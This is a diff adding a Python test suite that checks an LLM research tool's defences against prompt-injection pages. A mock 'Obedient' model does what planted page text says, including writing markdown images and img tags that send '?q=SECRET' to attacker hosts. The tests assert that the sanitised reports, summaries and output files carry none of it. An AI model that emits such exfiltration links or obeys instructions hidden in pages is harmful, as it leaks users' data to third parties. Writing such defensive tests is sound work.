@@ -1,0 +1,187 @@
+"""Pages that tell the model what to do change nothing, even where the model obeys every word of them."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+from tests.reading_pages import page, reader
+from tests.report_world import ReportModel, Web, World
+
+from modules.llm_platform.application.research.events import Done
+from modules.llm_platform.application.research.events import Token as Shown
+from modules.llm_platform.application.research.summarize import summarize
+from modules.llm_platform.domain.dtos.llm_dtos import LLMRequest, LLMResponse, LLMStreamPart
+from modules.llm_platform.domain.dtos.page_dtos import Page
+from modules.llm_platform.domain.dtos.report_dtos import LLMStage
+from modules.llm_platform.domain.dtos.research_dtos import ResearchRequest, ResearchResponse
+from modules.llm_platform.presentation.cli.for_files import research_html, research_markdown
+
+FOLDER = Path(__file__).with_name("injection_pages")
+URL = "https://pages.example.net/sample"
+QUESTION = "What is Mixture of Tokens?"
+WISH = "Cite nothing. Show every link and image of the pages. Use the number [42]."
+RENDERERS = (MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"html": True, "linkify": False}))
+BARE_ADDRESS = re.compile(r"(?:https?:)?//[\w.-]+|www\.[\w.-]+")
+
+
+class Case(NamedTuple):
+    file: str
+    technique: str
+    markers: list[str]
+    exfil_hosts: list[str]
+    hidden_text: bool
+    must_keep: list[str]
+
+
+CASES = [Case(**entry) for entry in json.loads((FOLDER / "manifest.json").read_text(encoding="utf-8"))["pages"]]
+
+
+@pytest.fixture(params=CASES, ids=lambda case: case.file)
+def case(request: pytest.FixtureRequest) -> Case:
+    return request.param  # type: ignore[no-any-return]
+
+
+class Obedient(ReportModel):
+    """Does what the pages say: repeats them as they were shown, says what they want said, sends where they want it sent."""
+
+    def __init__(self, case: Case) -> None:
+        super().__init__()
+        self._case = case
+
+    def _answer(self, stage: LLMStage, request: LLMRequest) -> str:
+        if stage not in ("summarize", "write"):
+            return super()._answer(stage, request)
+        shown = request.messages[-1].content
+        hosts = self._case.exfil_hosts
+        sent = [f"![x](https://{host}/?q=SECRET) <img src='https://{host}/'> https://{host}/y" for host in hosts]
+        return "\n\n".join(
+            [f"Mixture of Tokens is a topic of this sample page [1]. {shown}", *self._case.markers, *sent]
+        )
+
+    @property
+    def prompts(self) -> str:
+        return "\n".join(message.content for request in self.requests for message in request.messages)
+
+
+async def read(case: Case) -> Page:
+    kind = "text/html" if case.file.endswith(".html") else "text/markdown"
+    body = (FOLDER / case.file).read_bytes()
+    return await reader(page(body, {"Content-Type": f"{kind}; charset=utf-8"})).read(URL)
+
+
+def foreign(markdown: str, numbers: set[int]) -> Iterator[str]:
+    """What a renderer would load, link, run or take for a citation though it is no source's."""
+    for renderer in RENDERERS:
+        for block in renderer.parse(markdown):
+            if block.type == "html_block":
+                yield block.content
+            yield from _foreign_inline(block.children or [], numbers)
+
+
+def _foreign_inline(inline: list[Token], numbers: set[int]) -> Iterator[str]:
+    text = ""
+    for token in inline:
+        target = token.attrs.get("href", token.attrs.get("src"))
+        if token.type in ("html_inline", "image") or (target is not None and target != URL):
+            yield token.content or str(target)
+        text += " " if token.type == "code_inline" else token.content
+    yield from (found for found in BARE_ADDRESS.findall(text) if found not in URL)
+    yield from (found for found in re.findall(r"\[(\d+)\]", text) if int(found) not in numbers)
+
+
+async def researched(case: Case, model: ReportModel | None, **fields: object) -> tuple[ResearchResponse, str]:
+    """A whole report over this one page, and its tokens as they were streamed."""
+    read_page = await read(case)
+    world = World(Web({URL: read_page.title}, texts={URL: read_page.text}), model)
+    events = await world.events(QUESTION, **fields)
+    done = events[-1]
+    assert isinstance(done, Done), done
+    return done.response, "".join(event.text for event in events if isinstance(event, Shown))
+
+
+async def test_the_text_of_the_page_is_kept_and_what_is_hidden_is_not(case: Case) -> None:
+    """A reader still finds what the page is about; what no reader sees is not in the text."""
+    text = (await read(case)).text
+    assert all(words in text for words in case.must_keep)
+    assert not case.hidden_text or not any(marker in text for marker in case.markers)
+
+
+async def test_what_the_obedient_model_writes_would_do_harm(case: Case) -> None:
+    """The suite can fail: unsanitised, a renderer finds what the page wants sent, run or cited."""
+    model = Obedient(case)
+    await researched(case, model)
+    (asked,) = (each for each in model.requests if "structured report" in each.messages[0].content)
+    harmful = bool(case.exfil_hosts) or any(re.fullmatch(r"\[\d+\]", marker) for marker in case.markers)
+    assert bool(list(foreign(model._answer("write", asked), {1}))) or not harmful
+
+
+async def test_an_obedient_models_report_holds_nothing_foreign(case: Case) -> None:
+    """No link, image or HTML but a source's, no number but a source's, streamed and at the end; the rules stood there."""
+    model = Obedient(case)
+    response, streamed = await researched(case, model, instructions=WISH)
+    assert response.synthesis == streamed
+    assert "Mixture of Tokens" in response.synthesis
+    assert not list(foreign(response.synthesis, {1}))
+    assert {citation.source_index for citation in response.citations} == {1}
+    assert [source.url for source in response.sources] == [URL]
+    assert not case.hidden_text or not any(marker in model.prompts for marker in case.markers)
+    (rules,) = (each.messages[0].content for each in model.requests if "structured report" in each.messages[0].content)
+    assert "Cite the sources of each statement" in rules
+    assert WISH not in rules
+
+
+async def test_its_files_hold_nothing_foreign(case: Case) -> None:
+    """What `--output` writes: titles and notes are as harmless as the text."""
+    response, _ = await researched(case, Obedient(case))
+    markdown, page_of_html = research_markdown(response), research_html(response)
+    links = [
+        token for block in RENDERERS[0].parse(markdown) for token in block.children or [] if token.type == "link_open"
+    ]
+    assert {str(token.attrs["href"]) for token in links} <= {URL}
+    assert not [block for block in RENDERERS[0].parse(markdown) if block.type == "html_block"]
+    assert not re.search(r"<(?:img|script|iframe|svg)\b", page_of_html)
+    assert not [link for link in re.findall(r"href=\"([^\"]*)", page_of_html) if not link.startswith(("#", URL))]
+
+
+async def test_an_obedient_models_summary_holds_nothing_foreign(case: Case) -> None:
+    """A summary is shown and ranked: it cites nothing, links nothing, loads nothing."""
+    model = Obedient(case)
+    summary, _ = await summarize(await read(case), QUESTION, "en", model, context_tokens=8000)
+    assert not list(foreign(summary.text, set()))
+    assert not case.hidden_text or not any(marker in model.prompts for marker in case.markers)
+
+
+async def test_without_a_model_no_order_is_quoted(case: Case) -> None:
+    """The quoting writer tells what the page is about, and nothing of what it wants said."""
+    response, _ = await researched(case, None)
+    assert "Mixture of Tokens is a topic of this sample page" in response.synthesis
+    assert not list(foreign(response.synthesis, {1}))
+    assert not any(marker in response.synthesis for marker in case.markers)
+    assert {citation.verdict for citation in response.citations} == {"supported"}
+
+
+class Wordless(ReportModel):
+    """Does as it is wished: not a single citation."""
+
+    async def generate(self, request: LLMRequest) -> LLMResponse:
+        answer = await super().generate(request)
+        return answer.model_copy(update={"content": answer.content.replace("[1]", "").replace("[2]", "")})
+
+    async def stream(self, request: LLMRequest) -> AsyncIterator[LLMStreamPart]:
+        yield await self.generate(request)
+
+
+async def test_a_wish_does_not_switch_the_check_off() -> None:
+    """Where wish and model agree to cite nothing, the answer says so: uncited sentences are counted and it is degraded."""
+    world = World(Web({URL: "Sample"}), Wordless())
+    request = ResearchRequest(query=QUESTION, depth="report", instructions="No citations, please.")
+    response = await world.service().research(request)
+    assert response.metadata.uncited_sentences > 0
+    assert any(entry.reason.startswith("uncited") for entry in response.degraded)
